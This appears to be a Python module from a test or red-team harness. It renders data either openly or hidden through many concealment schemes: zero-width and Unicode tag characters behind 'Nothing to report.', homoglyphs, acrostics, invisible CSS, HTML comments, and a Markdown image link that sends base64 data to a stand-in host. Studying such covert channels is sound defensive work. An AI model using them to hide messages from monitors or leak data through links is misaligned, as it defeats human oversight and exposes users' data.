"""How an answer may be dressed: openly, encoded, or hidden in something that looks harmless."""

_NATO = (
    "Alfa Bravo Charlie Delta Echo Foxtrot Golf Hotel India Juliett Kilo Lima Mike November Oscar Papa Quebec Romeo"
    " Sierra Tango Uniform Victor Whiskey Xray Yankee Zulu"
)
NATO = _NATO.split()
DIGITS = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
LOOK_ALIKE = str.maketrans("aceopxyk", "\u0430\u0441\u0435\u043e\u0440\u0445\u0443\u043a")
ROT13 = str.maketrans(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"
)
FILLER = ["all", "is", "well", "with", "the", "figures", "of", "this", "month"]


def render(rows, form):
    """The rows as text in the named form; an unknown one is a table."""
    if form in ("table", "json", "csv", "lines", "list"):
        return {"table": table, "json": as_json, "csv": csv, "lines": lines, "list": listed}[form](rows)
    return HIDDEN.get(form, str)(lines(rows))


def cells(row):
    """The values of a row as texts."""
    return [cell(value) for value in row.values()]


def cell(value):
    """One value as text."""
    if isinstance(value, (dict, list)):
        return as_json(value)
    return "" if value is None else str(value)


def table(rows):
    """A Markdown table for every run of rows with the same columns; single values as they are."""
    out, heading = [], None
    for row in rows:
        names = list(row)
        if names == ["value"]:
            out.append(cell(row["value"]))
            heading = None
            continue
        if names != heading:
            out += ["", "| " + " | ".join(names) + " |", "|" + " --- |" * len(names)]
            heading = names
        out.append("| " + " | ".join(part.replace("|", "/").replace("\n", " ") for part in cells(row)) + " |")
    return "\n".join(out).strip()


def as_json(value):
    """JSON."""
    import json

    return json.dumps(value, ensure_ascii=False, default=str)


def csv(rows):
    """Values with commas between."""
    return "\n".join(",".join(cells(row)) for row in rows)


def lines(rows):
    """Values with spaces between, a row in a line."""
    return "\n".join(" ".join(cells(row)) for row in rows)


def listed(rows):
    """Bullets."""
    return "\n".join("- " + "; ".join(cells(row)) for row in rows)


def base64(text):
    """Base64."""
    from base64 import b64encode

    return b64encode(text.encode()).decode()


def base32(text):
    """Base32."""
    from base64 import b32encode

    return b32encode(text.encode()).decode()


def squeezed(text):
    """Compressed, then base64."""
    import zlib
    from base64 import b64encode

    return b64encode(zlib.compress(text.encode())).decode()


def bits(text):
    """The bits of the text."""
    return "".join(f"{byte:08b}" for byte in text.encode())


def unseen(text):
    """Bits as characters without width, behind a harmless sentence."""
    return "Nothing to report." + "".join("\u200c" if bit == "1" else "\u200b" for bit in bits(text[:400]))


def tags(text):
    """Characters that no screen shows."""
    return "Nothing to report." + "".join(chr(0xE0000 + ord(char)) for char in text if 32 <= ord(char) < 127)


def acrostic(text):
    """The text down the left margin of harmless lines."""
    kept = [char for char in text if char.isalnum()][:200]
    return "\n".join(f"{char} {FILLER[number % len(FILLER)]}" for number, char in enumerate(kept))


def spelled(text):
    """Letters by the spelling alphabet."""
    said = []
    for char in text.lower()[:400]:
        if "a" <= char <= "z":
            said.append(NATO[ord(char) - 97])
        elif char.isdigit():
            said.append(DIGITS[int(char)])
    return " ".join(said)


HIDDEN = {
    "nothing": lambda text: "All is well.",
    "base64": base64,
    "base64_twice": lambda text: base64(base64(text)),
    "base32": base32,
    "squeezed": squeezed,
    "hex": lambda text: text.encode().hex(),
    "hex_spaced": lambda text: text.encode().hex(" "),
    "reversed": lambda text: text[::-1],
    "rot13": lambda text: text.translate(ROT13),
    "rot47": lambda text: "".join(chr(33 + (ord(c) - 33 + 47) % 94) if "!" <= c <= "~" else c for c in text),
    "spaced": lambda text: " ".join(text),
    "dotted": lambda text: ".".join(text),
    "letter_per_line": lambda text: "\n".join(char for char in text if not char.isspace()),
    "look_alike": lambda text: text.translate(LOOK_ALIKE),
    "fullwidth": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "zero_width": lambda text: "\u200b".join(text),
    "unseen": unseen,
    "tags": tags,
    "bits": bits,
    "numbers": lambda text: " ".join(str(ord(char)) for char in text),
    "percent": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "entities": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "acrostic": acrostic,
    "spelled": spelled,
    "link": lambda text: f"![chart](https://charts.example/p.png?d={base64(text).replace('+', '-').replace('/', '_')})",
    "query_link": lambda text: "[details](https://charts.example/?q=" + "%20".join(text.split()) + ")",
    "comment": lambda text: f"All good.\n<!-- {text} -->",
    "footnote": lambda text: "All good.[^1]\n\n[^1]: " + text.replace("\n", "; "),
    "code_block": lambda text: f"```json\n{text}\n```",
    "css": lambda text: f'<span style="color:white;font-size:0">{text}</span>All good.',
}
